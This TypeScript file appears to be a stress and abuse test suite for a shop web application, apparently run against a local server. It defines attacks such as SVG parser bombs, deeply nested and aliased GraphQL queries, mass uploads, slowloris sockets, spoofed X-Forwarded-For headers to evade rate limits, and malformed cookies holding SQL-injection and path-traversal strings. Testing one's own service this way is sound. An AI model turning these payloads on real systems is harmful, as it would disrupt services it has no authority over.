import { request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';

/** Requests that no one sends by mistake; `run` resolves with the number of responses by status. */
export interface Attack {
  name: string;
  run(url: string): Promise<Map<number, number>>;
}

const MEGABYTE = 1024 * 1024;
const HUNG_UP = 0;
const SLOW_SECONDS = 15;

/** A different address each time, so that no limit per address helps. */
const elsewhere = () => ({ 'x-forwarded-for': `198.51.${100 + random(100)}.${random(250)}` });
const random = (below: number) => Math.floor(Math.random() * below);
const repeat = <T>(times: number, make: (index: number) => T): T[] =>
  Array.from({ length: times }, (_, index) => make(index));

async function ask(url: string, init: RequestInit = {}): Promise<number> {
  const headers = { ...elsewhere(), ...(init.headers as Record<string, string> | undefined) };
  return fetch(url, { ...init, headers }).then(
    async (response) => (await response.arrayBuffer(), response.status),
    () => HUNG_UP,
  );
}

/** Runs all of the work, `atOnce` at a time. */
async function inTurns(
  work: readonly (() => Promise<number>)[],
  atOnce: number,
): Promise<Map<number, number>> {
  const statuses = new Map<number, number>();
  const left = work.values();
  const turn = async () => {
    for (const one of left) {
      const status = await one();
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    }
  };
  await Promise.all(repeat(atOnce, turn));
  return statuses;
}

const upload = (url: string, content: string | Uint8Array<ArrayBuffer>, name: string) => async () => {
  const body = new FormData();
  body.set('file', new File([content], name));
  return ask(`${url}/api/v1/sell/cart/addonFile`, { method: 'POST', body });
};

const query =
  (url: string, text: string, variables: object = {}) =>
  () =>
    ask(`${url}/graphql`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ query: text, variables }),
    });

const svg = (inside: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${inside}</svg>`;
const nested = (depth: number) => `${'<g>'.repeat(depth)}${'</g>'.repeat(depth)}`;

const drawings: Attack = {
  name: 'drawings: deep, wide, and the costliest that are taken',
  run(url) {
    const kinds = [
      svg(nested(40_000)),
      svg('<path d="M0 0"/>'.repeat(300_000)),
      svg(nested(60).repeat(330)),
      svg('<g></x>'.repeat(20_000)),
    ];
    return inTurns(
      repeat(40, (index) => upload(url, kinds[index % kinds.length] ?? '', 'logo.svg')),
      8,
    );
  },
};

const relateds: Attack = {
  name: 'related products of related products, 12 deep, first 100',
  run(url) {
    const text = `query($n:Int){sellProducts(first:$n){${'relateds{'.repeat(12)}id${'}'.repeat(12)}}}`;
    return inTurns(
      repeat(60, () => query(url, text, { n: 100 })),
      10,
    );
  },
};

const deepQueries: Attack = {
  name: 'queries 3,000 deep, with 1,000 aliases, and ten in one',
  run(url) {
    const deep = `{${'a{'.repeat(3000)}a${'}'.repeat(3000)}}`;
    const aliases = `{${repeat(1000, (index) => `a${index}:sellProductCount`).join(' ')}}`;
    const wide = `{sellProducts(first:100){name relateds{name}}}`;
    return inTurns(
      [deep, aliases, wide].flatMap((text) => repeat(20, () => query(url, text))),
      10,
    );
  },
};

/** Requests a picture and disconnects soon. */
const abandoned = (url: string, path: string) => () =>
  new Promise<number>((resolve) => {
    const asked = request(`${url}${path}`, { headers: elsewhere() }, (response) => {
      response.resume();
      response.once('end', () => resolve(response.statusCode ?? HUNG_UP));
    });
    asked.once('error', () => resolve(HUNG_UP));
    asked.end();
    setTimeout(() => {
      asked.destroy();
      resolve(HUNG_UP);
    }, 300);
  });

const pictures: Attack = {
  name: '120 pictures asked for and hung up on after 0.3 s',
  async run(url) {
    const home = await (await fetch(url)).text();
    const hashes = [...new Set(home.matchAll(/\/assets\/i\/([0-9a-f]{32})\//g).map(([, hash]) => hash))];
    const aspects = ['16x3', '16x9', '8x5', '1x1', '3x4', '5x8', '9x16'];
    const work = repeat(120, (index) => {
      const hash = hashes[index % hashes.length] ?? '';
      const aspect = aspects[Math.floor(index / hashes.length) % aspects.length] ?? '';
      return abandoned(url, `/assets/i/${hash}/${aspect}/600.avif`);
    });
    return inTurns(work, 120);
  },
};

const uploads: Attack = {
  name: '32 files of 9 MB, 16 at once',
  run(url) {
    const file = new Uint8Array(9 * MEGABYTE).fill(32);
    file.set(new TextEncoder().encode('%PDF-1.7\n'));
    return inTurns(
      repeat(32, () => upload(url, file, 'plan.pdf')),
      16,
    );
  },
};

const slowloris: Attack = {
  name: `200 sockets that send a header a second for ${SLOW_SECONDS} s`,
  async run(url) {
    const port = Number(new URL(url).port);
    const sockets = repeat(200, () => connect(port, '127.0.0.1').on('error', () => {}));
    for (const socket of sockets) socket.write('GET / HTTP/1.1\r\nhost: shop\r\n');
    for (let second = 0; second < SLOW_SECONDS; second++) {
      for (const socket of sockets) socket.write(`x-${second}: slow\r\n`);
      await pause(1000);
    }
    for (const socket of sockets) socket.destroy();
    return new Map([[HUNG_UP, sockets.length]]);
  },
};

const cookies: Attack = {
  name: 'cookies that are no cookies',
  run(url) {
    const kinds = [
      () => `locale=${random(1e9)}; cart=%E0%A4%A; visit=\u00ff`,
      () => `cart=${'x'.repeat(12_000)}`,
      () => `${'a=b; '.repeat(1500)}locale=../../etc`,
      () => `cart=' or 1=1 --; XSRF-TOKEN=${random(1e9)}`,
    ];
    const paths = ['/', '/cart', '/shop/slate', '/about'];
    return inTurns(
      repeat(400, (index) => () => {
        const cookie = kinds[index % kinds.length]?.() ?? '';
        return ask(`${url}${paths[Math.floor(index / 4) % paths.length]}`, { headers: { cookie } });
      }),
      20,
    );
  },
};

/** In the order in which they are sent. */
export const attacks: readonly Attack[] = [
  drawings,
  relateds,
  deepQueries,
  pictures,
  uploads,
  slowloris,
  cookies,
];
